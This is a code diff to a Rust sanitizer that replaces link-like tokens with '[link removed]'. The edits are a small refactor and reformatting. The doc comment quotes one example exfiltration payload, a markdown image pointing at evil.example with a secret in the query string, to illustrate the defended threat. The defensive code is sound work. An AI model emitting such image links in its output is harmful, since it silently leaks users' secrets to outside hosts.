@@ -6,7 +6,7 @@
 //! also loses everything that such a surface would load or make clickable. `![x](https://evil.example/?d=SECRET)`
 //! in a summary is fetched by the reader's client, and the secret is gone before anybody has clicked.
 //!
-//! [`line`] prefers to lose a harmless host name to letting a link through: whatever looks like an address
+//! [`line()`] prefers to lose a harmless host name to letting a link through: whatever looks like an address
 //! becomes `[link removed]`. Mail addresses, file names and version numbers stay. What it does not do: decide
 //! whether a text is true, polite or complete; fold look-alike letters; normalise Unicode.
 
@@ -143,7 +143,7 @@ fn link_like(token: &str) -> bool {
             starts && token.len() > at + scheme.len()
         })
     };
-    SCHEMES.iter().any(|name| scheme(&name)) || host_like(&token)
+    SCHEMES.iter().any(scheme) || host_like(&token)
 }
 
 /// Whether `token` holds a host name of three labels or more, or one of two labels or an IPv4 address with
@@ -159,12 +159,15 @@ fn host_like(token: &str) -> bool {
         let labels: Vec<&str> = run.split('.').filter(|label| !label.is_empty()).collect();
         let path = after.starts_with(['/', '?', '#', '\\']);
         let port = after.strip_prefix(':').is_some_and(|port| port.starts_with(|c: char| c.is_ascii_digit()));
-        let named = labels.last().is_some_and(|last| last.chars().count() >= 2 && last.chars().all(char::is_alphabetic));
+        let named = labels
+            .last()
+            .is_some_and(|last| last.chars().count() >= 2 && last.chars().all(char::is_alphabetic));
         let mail = previous == Some('@') || after.starts_with('@');
         if named && (labels.len() >= 3 && !mail || labels.len() >= 2 && (path || port)) {
             return true;
         }
-        let numeric = labels.len() == 4 && labels.iter().all(|label| label.bytes().all(|byte| byte.is_ascii_digit()));
+        let numeric =
+            labels.len() == 4 && labels.iter().all(|label| label.bytes().all(|byte| byte.is_ascii_digit()));
         // A network mask (`10.0.0.0/24`) is not a path.
         if numeric && path && after[1..].starts_with(|c: char| !c.is_ascii_digit()) {
             return true;
